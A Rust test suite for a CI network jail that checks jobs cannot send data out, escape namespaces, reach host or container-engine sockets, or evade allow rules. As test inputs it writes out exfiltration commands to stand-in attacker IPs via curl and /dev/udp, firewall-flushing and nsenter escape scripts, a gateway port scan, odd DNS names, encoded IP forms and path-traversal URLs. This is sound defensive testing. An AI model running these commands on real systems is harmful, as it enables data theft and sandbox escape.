//! What a job can see and touch besides the network: the gateway, other namespaces, the host's sockets; and
//! names, addresses and paths written in odd ways.

use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};

use crate::jail::Jail;
use crate::suite::{Mode, Suite, both};
use crate::world::World;

/// Tries the attacker in several ways, from wherever it is run.
const TRY: &str = "curl -s --max-time 1 http://198.51.100.66/secret; \
                   bash -c 'echo secret >/dev/udp/198.51.100.66/9; echo secret >/dev/udp/203.0.113.53/53'; true";

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        rules_and_routes_are_out_of_reach,
        other_namespaces_are_out_of_reach,
        gateway_is_out_of_sight,
        gateway_answers_questions_only,
        abstract_sockets_are_out_of_reach,
        sockets_of_services_are_masked,
        nothing_is_shared_in_memory,
        odd_names_stay_inside,
        odd_addresses_stay_inside,
        paths_end_at_their_borders,
        fronting_behind_a_splice_is_not_seen,
    );
}

/// As root of the job, and as root of a namespace that the job makes.
fn rules_and_routes_are_out_of_reach(mode: Mode) {
    let world = World::new();
    let script = format!(
        "nft flush ruleset; iptables -F; ip route add default dev lo; ip route flush table all
         ip link set eth0 down; ip link add more type veth; ip addr add 198.18.0.9/24 dev eth0
         sysctl -w net.ipv4.ip_forward=1; {TRY}"
    );
    let jail = Jail::new(&world, mode).allow("good.test");
    jail.shell(&script).assert_success();
    jail.run(["unshare", "-Ur", "sh", "-c", &script]).assert_success();
    jail.run(["unshare", "-Urn", "sh", "-c", &script]).assert_success();
    world.assert_attacker_saw_nothing();
    assert!(!world.wire().saw_bytes(b"secret"));
    world.assert_nothing_left();
}

fn other_namespaces_are_out_of_reach(mode: Mode) {
    let world = World::new();
    let script = format!(
        "for pid in $(ls /proc | grep '^[0-9]'); do
             nsenter -t $pid -n sh -c '{}'; nsenter --net=/proc/$pid/ns/net sh -c '{}'
             nsenter -U --preserve-credentials -t $pid -n true
         done
         mkdir -p ns; mount --bind /proc/1/ns/net ns; readlink /proc/*/ns/net | sort -u | wc -l",
        TRY.replace('\'', "\""),
        TRY.replace('\'', "\"")
    );
    let outcome = Jail::new(&world, mode).shell(&script);
    assert!(outcome.stdout.ends_with("1\n"), "one network is all there is: {outcome}");
    world.assert_attacker_saw_nothing();
    assert!(!world.wire().saw_bytes(b"secret"));
}

/// It has no number in the job, so it can neither be signalled nor traced.
fn gateway_is_out_of_sight(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let script = "\
import os, signal
names = {open(f'/proc/{p}/comm').read().strip() for p in os.listdir('/proc') if p.isdigit()}
print('audit' in names, len([p for p in os.listdir('/proc') if p.isdigit()]) <= 3, flush=True)
for target in (0, -1, 1, os.getppid()):
    for number in (signal.SIGUSR1, signal.SIGTERM):
        try: os.kill(target, number)
        except OSError: pass
";
    let all = "trap '' TERM USR1; /usr/bin/python3 -c \"$0\"; exec curl -sS http://good.test/";
    let outcome = Jail::new(&world, mode).allow("good.test").run(["bash", "-c", all, script]);
    // The signals reached the job at most, and what follows is judged as before.
    outcome.assert_success().assert_stdout("False True\nhello from good.test\n");
    world.assert_nothing_left();
}

fn gateway_answers_questions_only(mode: Mode) {
    let world = World::new();
    let script = "\
import socket
own = next(l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver'))
for port in [*range(1, 53), *range(54, 1100), 2375, 3128, 8080, 9050, 15000, 61999]:
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect((own, port))
        s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
        answer = s.recv(99)
        if answer and b'403' not in answer and b'400' not in answer: print(port, answer)
    except OSError: pass
for port in [*range(1, 53), *range(54, 1100), 5353, 15000, 61999]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.connect((own, port))
        s.send(b'x')
        print('udp', port, s.recv(99))
    except ConnectionRefusedError: pass
    except OSError as error: print('udp', port, error)
print('scanned')
";
    Jail::new(&world, mode).python(script).assert_success().assert_stdout("scanned\n");
    world.assert_attacker_saw_nothing();
}

fn abstract_sockets_are_out_of_reach(mode: Mode) {
    let world = World::new();
    // Of the test's own network namespace, which is nobody's in the world; and of the host's.
    let name = format!("cijail-test-{}", world.marker());
    let _outer = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    let listen = "import socket, time\ns = socket.socket(socket.AF_UNIX); s.bind('\\0of-the-host'); s.listen()\n\
                  print('ready', flush=True)\nwhile True: s.accept()[0].sendall(b'out')\n";
    let host = Jail::direct(&world, mode).start(["/usr/bin/python3", "-c", listen]);
    host.wait_for("ready");
    let script = format!(
        "import socket\nfor name in ('of-the-host', '{name}'):\n\
         \x20   try: s = socket.socket(socket.AF_UNIX); s.connect('\\0' + name); print('reached', name)\n\
         \x20   except OSError as error: print(type(error).__name__)\n"
    );
    let refused = "ConnectionRefusedError\n".repeat(2);
    Jail::new(&world, mode).python(&script).assert_success().assert_stdout(&refused);
    Jail::direct(&world, mode).python(&script).assert_says("reached of-the-host");
}

/// Name services, buses and container engines would ask, start or connect for the job. Also when the socket is
/// made anew during the run, and from a working directory beneath the mask.
fn sockets_of_services_are_masked(mode: Mode) {
    let world = World::new();
    // In the mount namespace of this world only.
    let host = Jail::direct(&world, Mode::Root);
    host.shell("mount -t tmpfs tmpfs /run && chmod 755 /run").assert_success();
    let paths = [
        "/run/nscd/socket",
        "/run/systemd/resolve/io.systemd.Resolve",
        "/run/systemd/private",
        "/run/avahi-daemon/socket",
        "/run/dbus/system_bus_socket",
        "/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
        "/run/buildkit/buildkitd.sock",
        "/run/docker.sock",
    ];
    let listen = format!(
        "import os, select, socket, sys\n\
         def listen(path):\n\
         \x20   os.makedirs(os.path.dirname(path), exist_ok=True)\n\
         \x20   if os.path.exists(path): os.unlink(path)\n\
         \x20   s = socket.socket(socket.AF_UNIX); s.bind(path); os.chmod(path, 0o666); s.listen()\n\
         \x20   return s\n\
         paths = {paths:?}\n\
         all = [listen(path) for path in paths]\n\
         print('ready', flush=True)\n\
         input()\n\
         again = [listen(path) for path in paths[:-1]]\n\
         print('anew', flush=True)\n\
         input()\n"
    );
    let mut daemon = host.start(["/usr/bin/python3", "-c", &listen]);
    daemon.wait_for("ready");
    let script = format!(
        "import os, socket\n\
         def knock(paths):\n\
         \x20   for path in paths:\n\
         \x20       try: socket.socket(socket.AF_UNIX).connect(path); print('reached', path)\n\
         \x20       except OSError: pass\n\
         paths = {paths:?}\n\
         knock(paths); knock(['socket'])\n\
         print('tried', flush=True)\n\
         input()\n\
         knock(paths[:-1]); knock(['socket'])\n"
    );
    let direct = Jail::direct(&world, mode).input("\n").python(&script);
    assert_eq!(direct.stdout.matches("reached").count(), 2 * paths.len() - 1, "{direct}");
    let jail = Jail::new(&world, mode).directory("/run/nscd");
    let mut running = jail.start(["/usr/bin/python3", "-c", &script]);
    running.wait_for("tried");
    daemon.type_in(b"\n");
    daemon.wait_for("anew");
    running.type_in(b"\n");
    running.finish().assert_success().assert_stdout("tried\n");
}

fn nothing_is_shared_in_memory(mode: Mode) {
    let world = World::new();
    let made = Jail::direct(&world, mode).shell("ipcmk -M 4096");
    let id = made.stdout.trim().rsplit(' ').next().unwrap();
    let look = format!("ipcs -m -i {id} | grep -c bytes=");
    let seen = Jail::direct(&world, mode).shell(&look);
    let inside =
        Jail::new(&world, mode).shell(&format!("{look}; ipcs -m | grep -c 0x; hostname of-the-job; true"));
    // Its own one only: others of the machine are not this test's.
    let after = Jail::direct(&world, mode).shell(&format!("hostname; ipcrm -m {id}"));
    seen.assert_stdout("1\n");
    inside.assert_stdout("0\n0\n");
    assert!(!after.says("of-the-job"), "{after}");
}

/// Digits, underscores, other scripts, bytes, and names at the limits of DNS.
fn odd_names_stay_inside(mode: Mode) {
    let world = World::new();
    let label = "a".repeat(63);
    let long = [label.as_str(), &label, &label, &"b".repeat(50), "evil", "test"].join(".");
    let too_long = [label.as_str(), &label, &label, &label, "evil.test"].join(".");
    let mut names =
        vec!["1secret.evil.test", "_secret.evil.test", "SECRET.EVIL.TEST.", "xn--secret-eva.evil.test"];
    names.extend([
        "se\\200cret.evil.test",
        "secret\\.good.test",
        "good.test\\000.evil.test",
        &long,
        &too_long,
    ]);
    names.extend(["secret_.good.test", "-secret.good.test", "g\u{f6}\u{f6}d.evil.test"]);
    let jail = Jail::new(&world, mode).allow("good.test").allow("203.0.113.53:53");
    for name in names {
        jail.run(["dig", "+time=1", "+tries=1", "+noidnin", name]);
        jail.run(["dig", "+tcp", "+time=1", "+tries=1", "+noidnin", name, "@203.0.113.53"]);
    }
    assert!(world.dns().asked().is_empty(), "{:?}", world.dns().asked());
    world.assert_attacker_saw_nothing();
}

/// 198.51.100.66 in the forms that the C library takes, and in IPv6.
fn odd_addresses_stay_inside(mode: Mode) {
    let world = World::new();
    let hosts =
        ["0xc6.0x33.0x64.0x42", "3325256770", "0306.063.0144.0102", "198.51.25666", "[::ffff:198.51.100.66]"];
    let urls: Vec<String> = hosts.iter().map(|host| format!("http://{host}/secret")).collect();
    let command: Vec<&str> =
        ["curl", "-s", "--max-time", "2"].into_iter().chain(urls.iter().map(String::as_str)).collect();
    Jail::new(&world, mode).allow("good.test").run(&command);
    world.assert_attacker_saw_nothing();
    Jail::direct(&world, mode).run(&command);
    assert!(world.attacker().heard(b"/secret"));
}

fn paths_end_at_their_borders(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let jail = Jail::new(&world, mode).allow("http://good.test/ok/");
    let paths = [
        "/ok/../secret",
        "/ok/%2e%2e/secret",
        "/ok/.%2E/secret",
        "/ok/..%2fsecret",
        "/ok/..;/secret",
        "/ok/..\\secret",
        "//secret",
        "/okay/secret",
        "/OK/secret",
        "/secret/ok/",
    ];
    for path in paths {
        let outcome = jail.run(["curl", "-s", "--path-as-is", &format!("http://good.test{path}")]);
        outcome.assert_denied("http", "good.test", "path-not-allowed");
    }
    assert!(site.requests().is_empty(), "{:?}", site.paths());
    jail.run(["curl", "-sS", "http://good.test/ok/file"]).assert_success();
    assert_eq!(site.paths(), ["/ok/file"]);
}

/// A residual: behind an allowed server name another Host may stand, and the log knows the first only.
fn fronting_behind_a_splice_is_not_seen(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let outcome = Jail::new(&world, mode).allow("good.test").run([
        "curl",
        "-sS",
        "-H",
        "Host: evil.test",
        "https://good.test/",
    ]);
    outcome.assert_success().assert_allowed("tls", "good.test");
    assert_eq!(site.requests()[0].header("host"), Some("evil.test"));
    // It is still the allowed server that got it.
    world.assert_attacker_saw_nothing();
}
